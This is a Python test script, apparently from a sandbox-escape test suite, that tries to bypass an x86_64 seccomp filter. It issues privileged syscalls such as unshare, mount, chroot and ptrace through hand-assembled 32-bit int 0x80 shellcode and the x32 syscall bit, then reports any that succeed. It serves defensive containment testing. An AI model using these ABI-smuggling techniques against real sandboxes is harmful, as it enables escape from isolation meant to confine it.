# attack: dodge the x86_64 seccomp filter with other syscall ABIs: 32-bit int 0x80 (unshare, mount, ptrace, chroot) and the x32 bit
# category: escape
# expect: status=200 result="contained"
import ctypes
import errno
import mmap
import os
import signal
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X32_BIT = 0x40000000


MAP_32BIT = 0x40
# One page below 4 GiB (MAP_32BIT) holds the code and the strings, so 32-bit registers can point at them.
PAGE = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT,
                 prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
BASE = ctypes.addressof(ctypes.c_char.from_buffer(PAGE))
STRINGS = {}


def low(s):
    """The low address of a NUL-terminated copy of s."""
    if s not in STRINGS:
        offset = 1024 + sum(len(x) + 1 for x in STRINGS)
        PAGE[offset:offset + len(s) + 1] = s + b"\0"
        STRINGS[s] = BASE + offset
    return STRINGS[s]


def int80(nr, *args):
    """push rbx; mov eax, nr; mov ebx/ecx/edx/esi/edi, args; int 0x80; pop rbx; ret"""
    regs = [a if isinstance(a, int) else low(a) for a in args] + [0] * (5 - len(args))
    assert BASE < 2**32
    code = b"\x53\xb8" + struct.pack("<I", nr)
    for opcode, value in zip((b"\xbb", b"\xb9", b"\xba", b"\xbe", b"\xbf"), regs):
        code += opcode + struct.pack("<I", value & 0xFFFFFFFF)
    code += b"\xcd\x80\x5b\xc3"
    PAGE[0:len(code)] = code
    return ctypes.CFUNCTYPE(ctypes.c_int)(BASE)()


def in_child(fn):
    """Runs fn in a child (a seccomp kill must not take the wrapper with it): (return value or None, signal or None)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            os.write(w, str(fn()).encode())
        finally:
            os._exit(0)
    os.close(w)
    out = os.read(r, 100)
    os.close(r)
    _, status = os.waitpid(pid, 0)
    sig = os.WTERMSIG(status) if os.WIFSIGNALED(status) else None
    return (int(out) if out else None), sig


def main():
    breaches = []
    os.makedirs("/tmp/m", exist_ok=True)
    i386 = {"unshare(CLONE_NEWUSER)": (310, 0x10000000), "unshare(CLONE_NEWNS)": (310, 0x00020000),
            "mount tmpfs": (21, b"none", b"/tmp/m", b"tmpfs", 0, 0), "ptrace(TRACEME)": (26, 0, 0, 0, 0),
            "chroot(/tmp)": (61, b"/tmp"), "setns": (346, 0, 0), "umount2(/proc)": (52, b"/proc", 2)}
    for name, call in i386.items():
        rc, sig = in_child(lambda: int80(*call))
        # Killed by SIGSYS (the filter rejects the foreign ABI) or refused: fine. Success: a bypass.
        if sig is None and rc is not None and rc >= 0:
            breaches.append("int 0x80 %s returned %d" % (name, rc))
        elif sig not in (None, signal.SIGSYS):
            breaches.append("int 0x80 %s died of signal %d" % (name, sig))
    for name, nr, args in (("unshare(CLONE_NEWUSER)", 272, (0x10000000,)), ("chroot", 161, (b"/tmp",)),
                           ("ptrace(TRACEME)", 101, (0, 0, 0, 0))):
        def x32(nr=nr, args=args):
            ctypes.set_errno(0)
            rc = libc.syscall(ctypes.c_long(X32_BIT | nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
            return rc if rc >= 0 else -ctypes.get_errno()

        rc, sig = in_child(x32)
        if sig is None and rc is not None and rc >= 0:
            breaches.append("x32 %s returned %d" % (name, rc))
        elif sig is not None and sig != signal.SIGSYS:
            breaches.append("x32 %s died of signal %d" % (name, sig))
    caps = [l for l in open("/proc/self/status") if l.startswith("CapEff")][0].split()[1]
    if int(caps, 16):
        breaches.append("CapEff " + caps)
    return breaches or "contained"
